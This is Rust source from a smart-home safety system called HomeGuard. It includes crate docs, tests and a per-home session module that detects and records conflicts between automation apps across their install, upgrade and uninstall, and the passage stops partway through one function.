        assert!(e.to_string().contains("journal failure"));
        assert!(e.to_string().contains("segment 3 torn"));
        let e = HgError::Degraded("journal quarantined at offset 4".into());
        assert!(e.to_string().contains("degraded"));
        assert!(e.to_string().contains("offset 4"));
    }

    #[test]
    fn home_ids_are_ordered_and_round_trip() {
        let a = HomeId::new(1);
        let b = HomeId::new(2);
        assert!(a < b);
        assert_eq!(a.raw(), 1);
        assert_eq!(a, HomeId::new(1));
    }

    #[test]
    fn extract_errors_expose_their_source() {
        use std::error::Error as _;
        let e = HgError::extract("App", ExtractError::Unsupported("call".into()));
        assert!(e.source().is_some());
        assert!(e.to_string().contains("unsupported"));
    }
}
