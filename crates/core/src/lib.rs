//! # homeguard-core — the HOMEGUARD system
//!
//! This crate assembles the paper's Fig. 6 architecture from the substrate
//! crates:
//!
//! * [`ExtractorService`] — the backend: offline rule extraction into a
//!   JSON rule database, with on-demand extraction for custom apps;
//! * [`HomeGuard`] — the per-home process: configuration recorder, rule
//!   recorder, detection engine orchestration and the Allowed list for
//!   chained-threat detection (§VI-D);
//! * [`frontend`] — the rule interpreter and threat interpreter that turn
//!   rules, witnesses and reports into the human-readable screens of
//!   Fig. 7b.
//!
//! # Examples
//!
//! ```
//! use homeguard_core::HomeGuard;
//! use hg_detector::ThreatKind;
//!
//! let mut hg = HomeGuard::new();
//! hg.install_app(r#"
//!     definition(name: "OnApp")
//!     input "m", "capability.motionSensor"
//!     input "lamp", "capability.switch", title: "lamp"
//!     def installed() { subscribe(m, "motion.active", h) }
//!     def h(evt) { lamp.on() }
//! "#, "OnApp", None).unwrap();
//! let report = hg.install_app(r#"
//!     definition(name: "OffApp")
//!     input "m", "capability.motionSensor"
//!     input "lamp", "capability.switch", title: "lamp"
//!     def installed() { subscribe(m, "motion.active", h) }
//!     def h(evt) { lamp.off() }
//! "#, "OffApp", None).unwrap();
//! assert!(report.threats.iter().any(|t| t.kind == ThreatKind::ActuatorRace));
//! println!("{}", homeguard_core::frontend::interpret_report(&report));
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod extractor_service;
pub mod frontend;
pub mod install;

pub use extractor_service::ExtractorService;
pub use install::{HomeGuard, InstallReport};
