//! # homeguard-core — the HOMEGUARD system
//!
//! This crate assembles the paper's Fig. 6 architecture from the substrate
//! crates, redesigned as three layers so one process can serve many homes
//! from one rule database:
//!
//! * [`RuleStore`] — the process-wide extractor service and rule database:
//!   created once, shared behind an [`Arc`](std::sync::Arc) across every
//!   home, with interior-mutability ingest so one extraction serves every
//!   home installing the same store app;
//! * [`Home`] — a per-home session handle built via [`HomeBuilder`]
//!   (location modes, unification policy, configuration recorder). It owns
//!   only per-home state — installed rules, device bindings, the Allowed
//!   list (§VI-D) — and drives an incremental
//!   [`DetectionEngine`](hg_detector::DetectionEngine) whose candidate
//!   index visits only the installed rules a new app can actually
//!   interact with;
//! * [`frontend`] — the rule interpreter and threat interpreter that turn
//!   rules, witnesses and reports into the human-readable screens of
//!   Fig. 7b.
//!
//! # Examples
//!
//! ```
//! use homeguard_core::{frontend, Home, RuleStore};
//! use hg_detector::ThreatKind;
//!
//! let store = RuleStore::shared();
//! let mut home = Home::new(store.clone());
//!
//! // A clean install is confirmed automatically.
//! let report = home.install_app(r#"
//!     definition(name: "OnApp")
//!     input "m", "capability.motionSensor"
//!     input "lamp", "capability.switch", title: "lamp"
//!     def installed() { subscribe(m, "motion.active", h) }
//!     def h(evt) { lamp.on() }
//! "#, "OnApp", None).unwrap();
//! assert!(report.installed);
//!
//! // A dirty install is NOT: the report comes back for the user to decide.
//! let report = home.install_app(r#"
//!     definition(name: "OffApp")
//!     input "m", "capability.motionSensor"
//!     input "lamp", "capability.switch", title: "lamp"
//!     def installed() { subscribe(m, "motion.active", h) }
//!     def h(evt) { lamp.off() }
//! "#, "OffApp", None).unwrap();
//! assert!(report.threats.iter().any(|t| t.kind == ThreatKind::ActuatorRace));
//! assert!(!report.installed);
//! println!("{}", frontend::interpret_report(&report));
//!
//! // Accepting the interference records it on the Allowed list.
//! home.confirm_install(report).unwrap();
//! assert!(!home.allowed().is_empty());
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod error;
pub mod frontend;
pub mod home;
pub mod store;

pub use error::{HgError, HomeId};
pub use hg_runtime::{HandlingPolicy, MediationStats, PolicyTable, SharedEnforcer};
pub use home::{Home, HomeBuilder, HomeState, InstallReport, UnificationPolicy, UninstallReport};
pub use store::{RuleStore, StoreAppState, StoreState};
