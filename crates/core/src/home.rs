//! Per-home sessions: the installation workflow (paper Fig. 6 and §VI-D)
//! on top of the shared rule store.
//!
//! Whenever a new app is installed (or reconfigured), HomeGuard:
//!
//! 1. collects the configuration information ([`hg_config::ConfigInfo`]);
//! 2. fetches the app's rules from the shared [`RuleStore`];
//! 3. runs incremental detection against the installed rules — only the
//!    candidate-index collisions are visited;
//! 4. extends the detection through the *Allowed* list to find chained
//!    (indirect) interference;
//! 5. presents the findings and records the user's verdict — confirming a
//!    dirty install moves the pairwise findings onto the Allowed list so
//!    future installs can chain through them.
//!
//! A [`Home`] owns only per-home state (installed rules, device bindings,
//! user values, the Allowed list); everything app-specific but
//! home-independent lives in the store, shared across every home the
//! process serves.
//!
//! Since the fleet redesign the session carries the **full app
//! lifecycle**: [`install_app`](Home::install_app) →
//! [`confirm_install`](Home::confirm_install) →
//! [`upgrade_app`](Home::upgrade_app) →
//! [`uninstall_app`](Home::uninstall_app). Uninstall and upgrade retract
//! incrementally — rules are unposted from the candidate index, Allowed
//! threats involving the app are retired, and the compiled
//! [`MediationIndex`] follows suit — so a lifecycle-churned home is
//! indistinguishable from one freshly built in its final state.

use crate::error::HgError;
use crate::store::RuleStore;
use hg_config::ConfigInfo;
use hg_detector::{
    find_chains, Chain, DetectStats, DetectionEngine, Detector, Edge, Threat, Unification,
};
use hg_rules::rule::{Rule, RuleId};
use hg_rules::value::Value;
use hg_runtime::{Enforcer, MediationIndex, MediationStats, PolicyTable, SharedEnforcer};
use hg_telemetry::{TelemetryBus, TelemetryEvent};
use std::collections::BTreeMap;
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Instant;

/// How the home resolves device slots for detection.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum UnificationPolicy {
    /// Use recorded device bindings when any exist, else assume two slots
    /// of the same device type may be the same device (the deployment
    /// default: precise once configuration is collected).
    #[default]
    Auto,
    /// Always unify by device type, ignoring recorded bindings (store-wide
    /// analysis, paper §VIII-B).
    ByType,
}

/// Builds a [`Home`] session against a shared store.
#[derive(Clone)]
pub struct HomeBuilder {
    store: Arc<RuleStore>,
    modes: Vec<String>,
    policy: UnificationPolicy,
    chain_depth: usize,
    config: Vec<ConfigInfo>,
    handling: PolicyTable,
    share_verdicts: bool,
    lowered_pairs: bool,
}

impl HomeBuilder {
    /// A builder with the deployment defaults: Home/Away/Night modes,
    /// automatic unification, chains up to 4 edges.
    pub fn new(store: Arc<RuleStore>) -> HomeBuilder {
        HomeBuilder {
            store,
            modes: vec!["Home".into(), "Away".into(), "Night".into()],
            policy: UnificationPolicy::Auto,
            chain_depth: 4,
            config: Vec::new(),
            handling: PolicyTable::default(),
            share_verdicts: true,
            lowered_pairs: true,
        }
    }

    /// Sets the home's location modes.
    pub fn modes<I, S>(mut self, modes: I) -> HomeBuilder
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        self.modes = modes.into_iter().map(Into::into).collect();
        self
    }

    /// Sets the device-slot unification policy.
    pub fn unification(mut self, policy: UnificationPolicy) -> HomeBuilder {
        self.policy = policy;
        self
    }

    /// Sets the maximum chained-threat length in edges (§VI-D).
    pub fn chain_depth(mut self, edges: usize) -> HomeBuilder {
        self.chain_depth = edges.max(2);
        self
    }

    /// Pre-records configuration information collected before the session
    /// started (e.g. replayed from the configuration recorder's log).
    pub fn record_config(mut self, info: ConfigInfo) -> HomeBuilder {
        self.config.push(info);
        self
    }

    /// Sets the runtime handling policies the session's enforcer applies
    /// per threat kind (see [`Home::enforcer`]).
    pub fn handling_policy(mut self, table: PolicyTable) -> HomeBuilder {
        self.handling = table;
        self
    }

    /// Whether the session's detector consults the store's fleet-shared
    /// [`VerdictCache`](hg_detector::VerdictCache) (default: true). The
    /// differential harnesses disable it to obtain the uncached ground
    /// truth the cached path must be bit-identical to.
    ///
    /// This is a session-local diagnostic knob, not durable
    /// configuration: it is absent from [`HomeState`], and a session
    /// revived by [`Home::restore_state`] is back on the (behaviorally
    /// identical, differentially proven) shared default. Re-disable it
    /// after a restore when re-establishing a ground-truth session.
    pub fn verdict_sharing(mut self, enabled: bool) -> HomeBuilder {
        self.share_verdicts = enabled;
        self
    }

    /// Whether the session's detector consults the lowered pair-check
    /// tier before falling back to the full `OverlapSolver` (default:
    /// true, subject to the process-wide `HG_LOWERED_PAIRS` override).
    /// The differential harnesses disable it to run solver-forced twin
    /// sessions. Like [`verdict_sharing`](Self::verdict_sharing) this is
    /// a session-local diagnostic knob, absent from [`HomeState`]: a
    /// restored session is back on the (bit-identical, differentially
    /// proven) lowered default.
    pub fn lowered_pairs(mut self, enabled: bool) -> HomeBuilder {
        self.lowered_pairs = enabled;
        self
    }

    /// Builds the session handle.
    pub fn build(self) -> Home {
        let mut home = Home {
            store: self.store,
            engine: DetectionEngine::default(),
            bindings: BTreeMap::new(),
            values: BTreeMap::new(),
            allowed: Vec::new(),
            apps: Vec::new(),
            modes: self.modes,
            policy: self.policy,
            chain_depth: self.chain_depth,
            handling: self.handling,
            mediation: None,
            share_verdicts: self.share_verdicts,
            lowered_pairs: self.lowered_pairs,
            telemetry: None,
            label: 0,
            mediation_sink: Arc::new(Mutex::new(MediationStats::default())),
        };
        for info in &self.config {
            home.absorb_config(info);
        }
        home.engine = DetectionEngine::new(home.detector());
        home
    }
}

/// A per-home HomeGuard session: recorders plus the incremental detection
/// engine, borrowing the shared rule store.
pub struct Home {
    store: Arc<RuleStore>,
    engine: DetectionEngine,
    /// Configuration recorder: device bindings per (app, input).
    bindings: BTreeMap<(String, String), String>,
    /// Configuration recorder: user values per (app, input).
    values: BTreeMap<(String, String), Value>,
    /// Pairwise interferences the user accepted (the Allowed list, §VI-D).
    allowed: Vec<Threat>,
    /// Confirmed-installed app names, in first-install order. Tracked
    /// explicitly (not derived from installed rules) so an app that
    /// extracts to zero rules — e.g. a pure web-service endpoint app —
    /// still has a full lifecycle: it shows in [`Home::installed_apps`],
    /// double-installs are refused, and uninstall/upgrade find it.
    apps: Vec<String>,
    modes: Vec<String>,
    policy: UnificationPolicy,
    chain_depth: usize,
    /// Runtime handling policies for the session's enforcer.
    handling: PolicyTable,
    /// The compiled mediation points of the current Allowed list, kept
    /// between [`Home::enforcer`] calls. Lifecycle mutations either update
    /// it incrementally (uninstall retires the app's points in place) or
    /// invalidate it for lazy recompilation.
    mediation: Option<MediationIndex>,
    /// Whether detection consults the store's fleet-shared verdict cache
    /// (see [`HomeBuilder::verdict_sharing`]).
    share_verdicts: bool,
    /// Whether detection consults the lowered pair-check tier before the
    /// full solver (see [`HomeBuilder::lowered_pairs`]).
    lowered_pairs: bool,
    /// Fleet event bus handle. `None` (the default) keeps every telemetry
    /// branch in the lifecycle paths a single pointer test — detection,
    /// mediation and persistence are bit-identical with or without it.
    telemetry: Option<Arc<TelemetryBus>>,
    /// The raw home id stamped on published events (0 for a standalone
    /// session outside any fleet).
    label: u64,
    /// Accumulated mediation statistics absorbed from every enforcer this
    /// session hands out (each [`Home::enforcer`] call builds a fresh
    /// per-run enforcer; without a shared sink its counters would die with
    /// it). Observability state only — never persisted.
    mediation_sink: Arc<Mutex<MediationStats>>,
}

/// The outcome of an installation attempt, shown to the user by the
/// frontend before they decide.
#[derive(Debug, Clone)]
pub struct InstallReport {
    /// The app under installation.
    pub app: String,
    /// Its rules, for the frontend's rule interpreter.
    pub rules: Vec<Rule>,
    /// Direct (pairwise) threats against installed apps.
    pub threats: Vec<Threat>,
    /// Chained threats through the Allowed list.
    pub chains: Vec<Chain>,
    /// Detection effort counters.
    pub stats: DetectStats,
    /// Whether the rules were recorded as installed (clean installs
    /// auto-confirm; dirty ones await [`Home::confirm_install`]).
    pub installed: bool,
    /// Configuration staged with this install attempt. It is recorded
    /// permanently only on confirmation, so a rejected install leaves the
    /// configuration recorder untouched.
    pub config: Option<ConfigInfo>,
    /// For an upgrade report: the installed app this install replaces on
    /// confirmation (its rules and Allowed threats are retired first).
    pub replaces: Option<String>,
    /// Filled on confirmation of an upgrade: `Priority` ranks that named
    /// rules of the replaced version with no surviving counterpart in the
    /// new one. They were dropped from the handling table (a renumbered
    /// survivor is remapped instead) and are surfaced here so the frontend
    /// can ask the user to re-rank.
    pub dropped_ranks: Vec<RuleId>,
}

impl InstallReport {
    /// Whether the installation is clean.
    pub fn is_clean(&self) -> bool {
        self.threats.is_empty() && self.chains.is_empty()
    }

    /// Whether this report stages an upgrade of an installed app.
    pub fn is_upgrade(&self) -> bool {
        self.replaces.is_some()
    }
}

/// The outcome of an app uninstall: what was retracted from the session.
#[derive(Debug, Clone)]
pub struct UninstallReport {
    /// The app removed.
    pub app: String,
    /// Identities of the retracted rules, in install order.
    pub removed_rules: Vec<RuleId>,
    /// Allowed-list threats retired because they involved the app.
    pub retired_threats: usize,
    /// `Priority` ranks dropped from the handling table because they named
    /// the uninstalled app's rules.
    pub dropped_ranks: Vec<RuleId>,
}

/// Maps each outgoing rule of an upgraded app to the new-version rule
/// carrying the identical automation (same trigger, condition and actions
/// — identity aside), if one exists. Each new rule absorbs at most one
/// predecessor, so two identical old rules cannot collapse onto one rank.
fn rank_remap(old_rules: &[Rule], new_rules: &[Rule]) -> BTreeMap<RuleId, RuleId> {
    let mut used = vec![false; new_rules.len()];
    let mut map = BTreeMap::new();
    for old in old_rules {
        let hit = new_rules.iter().enumerate().find(|(i, n)| {
            !used[*i]
                && n.trigger == old.trigger
                && n.condition == old.condition
                && n.actions == old.actions
        });
        if let Some((i, survivor)) = hit {
            used[i] = true;
            map.insert(old.id.clone(), survivor.id.clone());
        }
    }
    map
}

/// The complete persistable state of a [`Home`] session — everything that
/// is *ground truth* rather than derived. The detection engine's postings,
/// the compiled mediation index and the enforcer are deliberately absent:
/// [`Home::restore_state`] rebuilds them from the rules and the Allowed
/// list, so a snapshot can never disagree with the state it implies.
#[derive(Debug, Clone, PartialEq)]
pub struct HomeState {
    /// Location modes.
    pub modes: Vec<String>,
    /// Device-slot unification policy.
    pub policy: UnificationPolicy,
    /// Maximum chained-threat length in edges.
    pub chain_depth: usize,
    /// Confirmed-installed app names, in first-install order.
    pub apps: Vec<String>,
    /// Installed rules, in engine install order.
    pub rules: Vec<Rule>,
    /// Configuration recorder: device bindings per (app, input).
    pub bindings: Vec<(String, String, String)>,
    /// Configuration recorder: user values per (app, input).
    pub values: Vec<(String, String, Value)>,
    /// The Allowed list (confirmed threat decisions).
    pub allowed: Vec<Threat>,
    /// Runtime handling policies, including user-configured ranks.
    pub handling: PolicyTable,
}

impl Home {
    /// A session with deployment defaults against `store`.
    pub fn new(store: Arc<RuleStore>) -> Home {
        HomeBuilder::new(store).build()
    }

    /// A builder for a customized session.
    pub fn builder(store: Arc<RuleStore>) -> HomeBuilder {
        HomeBuilder::new(store)
    }

    /// The shared store this home installs from.
    pub fn store(&self) -> &Arc<RuleStore> {
        &self.store
    }

    /// The home's location modes.
    pub fn modes(&self) -> &[String] {
        &self.modes
    }

    /// The detector matching the current recorders and policy.
    fn detector(&self) -> Detector {
        let unification = match self.policy {
            UnificationPolicy::ByType => Unification::ByType,
            UnificationPolicy::Auto => {
                if self.bindings.is_empty() {
                    Unification::ByType
                } else {
                    Unification::Bindings(self.bindings.clone())
                }
            }
        };
        let mut det = Detector {
            unification,
            ..Detector::default()
        };
        // The session opt-out can only disable the tier; the process-wide
        // `HG_LOWERED_PAIRS` override (folded into the default) wins when
        // it says off.
        det.lowered_pairs &= self.lowered_pairs;
        det.solver.set_modes(self.modes.iter().cloned());
        det.solver.set_user_values(self.values.clone());
        if self.share_verdicts {
            det.cache = Some(self.store.verdict_cache().clone());
        }
        det.bus = self.telemetry.clone();
        det
    }

    /// Attaches (or detaches, with `None`) the fleet event bus. `label` is
    /// the raw home id stamped on every event this session publishes. The
    /// detection engine is re-prepared so its detector carries the handle
    /// into the pair-check hot path (sampled [`TelemetryEvent::CacheProbe`]
    /// timings); postings are untouched.
    ///
    /// Telemetry is a pure observer: attaching a bus changes no report,
    /// no decision and no persisted byte (proven differentially in
    /// `tests/telemetry_differential.rs`).
    pub fn set_telemetry(&mut self, bus: Option<Arc<TelemetryBus>>, label: u64) {
        self.telemetry = bus;
        self.label = label;
        self.engine.reconfigure(self.detector());
    }

    /// The attached fleet event bus, if any.
    pub fn telemetry(&self) -> Option<&Arc<TelemetryBus>> {
        self.telemetry.as_ref()
    }

    /// Accumulated mediation statistics across **every** enforcer this
    /// session has handed out (each [`Home::enforcer`] is a fresh per-run
    /// instance; this is the session-lifetime aggregate).
    pub fn mediation_stats(&self) -> MediationStats {
        *self
            .mediation_sink
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
    }

    /// Publishes the outcome of a completed install/upgrade attempt: one
    /// [`TelemetryEvent::InstallCompleted`] carrying the report's exact
    /// [`DetectStats`] (so bus consumers can reconcile counters against
    /// ground truth), plus one [`TelemetryEvent::ThreatDetected`] per
    /// reported pairwise threat.
    fn publish_install(&self, report: &InstallReport, started: Option<Instant>) {
        let Some(bus) = &self.telemetry else { return };
        let mut events = Vec::with_capacity(1 + report.threats.len());
        events.push(TelemetryEvent::InstallCompleted {
            home: self.label,
            app: report.app.clone(),
            installed: report.installed,
            upgrade: report.replaces.is_some(),
            threats: report.threats.len() as u64,
            pairs: report.stats.pairs,
            solves: report.stats.solves,
            cache_hits: report.stats.cache_hits,
            cache_misses: report.stats.cache_misses,
            lowered_hits: report.stats.lowered_hits,
            solver_fallbacks: report.stats.solver_fallbacks,
            micros: started.map_or(0, |t| t.elapsed().as_micros() as u64),
        });
        events.extend(
            report
                .threats
                .iter()
                .map(|threat| TelemetryEvent::ThreatDetected {
                    home: self.label,
                    kind: threat.kind.acronym(),
                    source_app: threat.source.app.clone(),
                    target_app: threat.target.app.clone(),
                }),
        );
        bus.publish_batch(events);
    }

    fn absorb_config(&mut self, info: &ConfigInfo) {
        for (input, id) in &info.devices {
            self.bindings
                .insert((info.app.clone(), input.clone()), id.clone());
        }
        for (input, value) in &info.values {
            self.values
                .insert((info.app.clone(), input.clone()), value.clone());
        }
    }

    /// Records collected configuration information (what the instrumented
    /// app's URI delivers) and re-prepares the detection state against the
    /// updated bindings.
    pub fn record_config(&mut self, info: &ConfigInfo) {
        self.absorb_config(info);
        self.engine.reconfigure(self.detector());
        // Rebinding changes actuator identities, so compiled mediation
        // points are stale.
        self.mediation = None;
        // Deliberately NO fleet-wide verdict eviction here: reconfiguring
        // ONE home changes only that home's pair keys (bindings reshape
        // the unified forms, values reshape the context hash), while the
        // old entries keep serving every other home that still runs the
        // old context. Content addressing already makes a stale answer
        // unreachable; entries orphaned by a fleet-wide rebinding wave
        // are reclaimed by the cache's capacity backstop. Store-level
        // lifecycle (retirement, upgrade re-ingest) is where entries die
        // for every home at once, and evicts there.
    }

    /// Checks an app (already ingested into the store, with configuration
    /// recorded) against the installed apps. Does **not** install it — the
    /// user decides based on the report.
    ///
    /// # Errors
    ///
    /// [`HgError::UnknownApp`] / [`HgError::Parse`] from the store lookup.
    pub fn check_install(&self, app: &str) -> Result<InstallReport, HgError> {
        let rules = self.store.rules_of(app)?;
        let (threats, stats) = self.engine.check(&rules);
        let chains = self.chains_for(app, &threats, None);
        Ok(InstallReport {
            app: app.to_string(),
            rules,
            threats,
            chains,
            stats,
            installed: false,
            config: None,
            replaces: None,
            dropped_ranks: Vec::new(),
        })
    }

    /// Batch check: the verdicts a user would see installing `apps` in
    /// order (each member is checked against the installed population plus
    /// the preceding batch members). Nothing is installed.
    ///
    /// # Errors
    ///
    /// [`HgError::UnknownApp`] / [`HgError::Parse`] for any batch member.
    pub fn check_install_many(&self, apps: &[&str]) -> Result<Vec<InstallReport>, HgError> {
        let rule_sets: Vec<Vec<Rule>> = apps
            .iter()
            .map(|app| self.store.rules_of(app))
            .collect::<Result<_, _>>()?;
        let borrowed: Vec<&[Rule]> = rule_sets.iter().map(Vec::as_slice).collect();
        let raw = self.engine.check_many(&borrowed);
        let mut allowed_edges = Edge::from_threats(&self.allowed);
        let mut out = Vec::with_capacity(apps.len());
        for ((app, rules), (threats, stats)) in apps.iter().zip(rule_sets).zip(raw) {
            // Chains may pass through earlier batch members' fresh threats.
            allowed_edges.extend(Edge::from_threats(&threats));
            let chains = find_chains(&allowed_edges, self.chain_depth)
                .into_iter()
                .filter(|c| c.rules.iter().any(|r| r.app == *app))
                .collect();
            out.push(InstallReport {
                app: app.to_string(),
                rules,
                threats,
                chains,
                stats,
                installed: false,
                config: None,
                replaces: None,
                dropped_ranks: Vec::new(),
            });
        }
        Ok(out)
    }

    /// Chained detection through the Allowed list (§VI-D): edges from the
    /// new findings plus the user-allowed historical pairs. For upgrade
    /// staging, `exclude` drops the replaced version's pairs — they refer
    /// to rules that will be retired on confirmation.
    fn chains_for(&self, app: &str, threats: &[Threat], exclude: Option<&str>) -> Vec<Chain> {
        let mut edges = Edge::from_threats(threats);
        let historical: Vec<Threat> = self
            .allowed
            .iter()
            .filter(|t| exclude.is_none_or(|gone| t.source.app != gone && t.target.app != gone))
            .cloned()
            .collect();
        edges.extend(Edge::from_threats(&historical));
        find_chains(&edges, self.chain_depth)
            .into_iter()
            .filter(|c| c.rules.iter().any(|r| r.app == app))
            .collect()
    }

    /// The user decided to install despite the report: the staged
    /// configuration (if any) is recorded permanently, rules are recorded,
    /// and the reported pairwise threats move to the Allowed list. For an
    /// upgrade report, the replaced version is retired first.
    ///
    /// # Errors
    ///
    /// A report can go stale between staging and confirmation:
    /// [`HgError::AlreadyInstalled`] when a plain install's app was
    /// confirmed meanwhile (confirming the same report twice would install
    /// duplicate rules under one identity);
    /// [`HgError::UnconfirmedInstall`] when an upgrade report's app was
    /// uninstalled meanwhile (confirming would resurrect it).
    pub fn confirm_install(&mut self, mut report: InstallReport) -> Result<InstallReport, HgError> {
        let mut replaced_rules = None;
        match report.replaces.clone() {
            Some(old) => {
                if !self.is_installed(&old) {
                    return Err(HgError::UnconfirmedInstall(old));
                }
                // Capture the outgoing version's rules before retirement:
                // they are the "from" side of the Priority rank remap.
                replaced_rules = Some(
                    self.engine
                        .installed_rules()
                        .filter(|r| r.id.app == old)
                        .cloned()
                        .collect::<Vec<Rule>>(),
                );
                self.retire_app(&old);
            }
            None => {
                if self.is_installed(&report.app) {
                    return Err(HgError::AlreadyInstalled(report.app));
                }
            }
        }
        if let Some(info) = &report.config {
            self.record_config(info);
        }
        self.engine.install_rules(report.rules.iter());
        self.allowed.extend(report.threats.iter().cloned());
        if !self.apps.contains(&report.app) {
            self.apps.push(report.app.clone());
        }
        if let Some(old_rules) = replaced_rules {
            // An upgrade renumbers the app's rules. A `Priority` rank on a
            // rule whose automation survived must follow it to its new
            // identity; a rank on automation the upgrade removed is
            // dropped and surfaced — silently treating it as "unranked"
            // would flip the arbitration the user explicitly configured.
            let remap = rank_remap(&old_rules, &report.rules);
            report.dropped_ranks = self.handling.remap_app_ranks(&report.app, &remap);
        }
        self.mediation = None;
        report.installed = true;
        Ok(report)
    }

    /// Removes a confirmed app from the session: its rules are unposted
    /// from the detection index, its Allowed-list threats retired, and its
    /// compiled mediation points dropped. Recorded configuration for the
    /// app is forgotten (its device slots no longer exist), which may
    /// change how *other* apps' slots unify from now on — exactly as if
    /// the app had never been installed.
    ///
    /// # Errors
    ///
    /// [`HgError::UnconfirmedInstall`] when the app is in the store but was
    /// never confirmed into this home; [`HgError::UnknownApp`] when the
    /// store has never heard of it either.
    pub fn uninstall_app(&mut self, app: &str) -> Result<UninstallReport, HgError> {
        if !self.is_installed(app) {
            return Err(self.not_installed_error(app));
        }
        let (removed_rules, retired_threats) = self.retire_app(app);
        let recorder_touched = self.bindings.keys().any(|(a, _)| a == app)
            || self.values.keys().any(|(a, _)| a == app);
        if recorder_touched {
            self.bindings.retain(|(a, _), _| a != app);
            self.values.retain(|(a, _), _| a != app);
            self.engine.reconfigure(self.detector());
            self.mediation = None;
        }
        // Ranks naming the app's rules are dangling now; drop and surface
        // them. Live mediation points embed resolved policies, so a
        // changed table invalidates the compiled cache.
        let dropped_ranks = self.handling.remap_app_ranks(app, &BTreeMap::new());
        if !dropped_ranks.is_empty() {
            self.mediation = None;
        }
        if let Some(bus) = &self.telemetry {
            bus.publish(TelemetryEvent::UninstallCompleted {
                home: self.label,
                app: app.to_string(),
                removed_rules: removed_rules.len() as u64,
                retired_threats: retired_threats as u64,
            });
        }
        Ok(UninstallReport {
            app: app.to_string(),
            removed_rules,
            retired_threats,
            dropped_ranks,
        })
    }

    /// Stages an upgrade: the new source is **published to the shared
    /// store** (extracted once — upgrades model a store-side app update,
    /// so the store serves v2 from here on, to every home), checked
    /// against this home's installed population *minus the currently
    /// installed version*, and — like [`Home::install_app`] —
    /// auto-confirmed only when clean. A dirty report comes back with
    /// [`installed == false`](InstallReport::installed) and
    /// [`replaces`](InstallReport::replaces) set; [`Home::confirm_install`]
    /// commits it (retiring the old version first), dropping it rejects the
    /// upgrade and leaves *this home* running its installed v1 copy (the
    /// engine keeps its own rules; only fresh checks see the store's v2).
    ///
    /// Recorded configuration **persists across upgrades** (as app stores
    /// do): bindings and user values keyed by input name carry over, so a
    /// later version reintroducing an input gets the user's remembered
    /// binding. Pass `config` to rebind; uninstall + install to forget.
    ///
    /// # Errors
    ///
    /// [`HgError::UnconfirmedInstall`] / [`HgError::UnknownApp`] when `name`
    /// is not a confirmed install; [`HgError::UpgradeRenames`] when the new
    /// source declares a different app name; [`HgError::Extract`] from
    /// extraction.
    pub fn upgrade_app(
        &mut self,
        source: &str,
        name: &str,
        config: Option<&ConfigInfo>,
    ) -> Result<InstallReport, HgError> {
        let started = self.telemetry.as_ref().map(|_| Instant::now());
        let report = self.stage_upgrade(source, name, config)?;
        let report = if report.is_clean() {
            self.confirm_install(report)?
        } else {
            report
        };
        self.publish_install(&report, started);
        Ok(report)
    }

    /// [`Home::upgrade_app`] with unconditional confirmation (the scripted-
    /// experiment path).
    ///
    /// # Errors
    ///
    /// As [`Home::upgrade_app`].
    pub fn upgrade_app_forced(
        &mut self,
        source: &str,
        name: &str,
        config: Option<&ConfigInfo>,
    ) -> Result<InstallReport, HgError> {
        let started = self.telemetry.as_ref().map(|_| Instant::now());
        let report = self.stage_upgrade(source, name, config)?;
        let report = self.confirm_install(report)?;
        self.publish_install(&report, started);
        Ok(report)
    }

    fn stage_upgrade(
        &mut self,
        source: &str,
        name: &str,
        config: Option<&ConfigInfo>,
    ) -> Result<InstallReport, HgError> {
        if !self.is_installed(name) {
            // Checked before ingest so a *misdirected* upgrade cannot
            // publish v2 store-wide. A well-directed upgrade does publish
            // before this home's verdict — that is the store-update model
            // (the market already carries v2; each home decides when to
            // move), not an accident: a rejecting home keeps running its
            // own v1 rule copies while the store serves v2 to new checks.
            return Err(self.not_installed_error(name));
        }
        let analysis = self.store.ingest_as(source, name)?;
        // Stage under the upgrade's configuration, against the live
        // population with the old version masked out — no engine clone,
        // no mutation: rejecting the dirty report leaves the session
        // untouched by construction.
        let saved = config.map(|info| {
            let snapshot = (self.bindings.clone(), self.values.clone());
            self.record_config(info);
            snapshot
        });
        let rules = analysis.rules.clone();
        let (threats, stats) = self.engine.check_excluding(&rules, name);
        let chains = self.chains_for(name, &threats, Some(name));
        if let Some((bindings, values)) = saved {
            self.bindings = bindings;
            self.values = values;
            self.engine.reconfigure(self.detector());
            self.mediation = None;
        }
        Ok(InstallReport {
            app: name.to_string(),
            rules,
            threats,
            chains,
            stats,
            installed: false,
            config: config.cloned(),
            replaces: Some(name.to_string()),
            dropped_ranks: Vec::new(),
        })
    }

    /// Retracts an app's rules from the engine, retires its Allowed
    /// threats, and updates the compiled mediation points (incrementally
    /// when a compiled index is live).
    fn retire_app(&mut self, app: &str) -> (Vec<RuleId>, usize) {
        let removed_rules = self.engine.remove_app(app);
        let before = self.allowed.len();
        self.allowed
            .retain(|t| t.source.app != app && t.target.app != app);
        let retired_threats = before - self.allowed.len();
        self.apps.retain(|a| a != app);
        if let Some(index) = &mut self.mediation {
            index.remove_app(app);
        }
        (removed_rules, retired_threats)
    }

    fn not_installed_error(&self, app: &str) -> HgError {
        if self.store.has_app(app) {
            HgError::UnconfirmedInstall(app.to_string())
        } else {
            HgError::UnknownApp(app.to_string())
        }
    }

    /// Ingests + records configuration + checks, and **confirms only if
    /// clean**. A dirty report is returned with
    /// [`installed == false`](InstallReport::installed): nothing was
    /// recorded, and the caller decides — [`Home::confirm_install`] to
    /// accept the interference, or drop the report to reject the app.
    ///
    /// # Errors
    ///
    /// [`HgError::Extract`] from extraction;
    /// [`HgError::AlreadyInstalled`] when the app's installation is already
    /// confirmed in this home (use [`Home::upgrade_app`] to replace it).
    pub fn install_app(
        &mut self,
        source: &str,
        name: &str,
        config: Option<&ConfigInfo>,
    ) -> Result<InstallReport, HgError> {
        let started = self.telemetry.as_ref().map(|_| Instant::now());
        let report = self.stage_install(source, name, config)?;
        let report = if report.is_clean() {
            self.confirm_install(report)?
        } else {
            report
        };
        self.publish_install(&report, started);
        Ok(report)
    }

    /// Ingests + records configuration + checks + confirms unconditionally,
    /// returning the (possibly dirty) report. This is the scripted-
    /// experiment path: the "user" accepts every interference, so threats
    /// land on the Allowed list exactly as §VI-D's chained detection needs.
    ///
    /// # Errors
    ///
    /// As [`Home::install_app`].
    pub fn install_app_forced(
        &mut self,
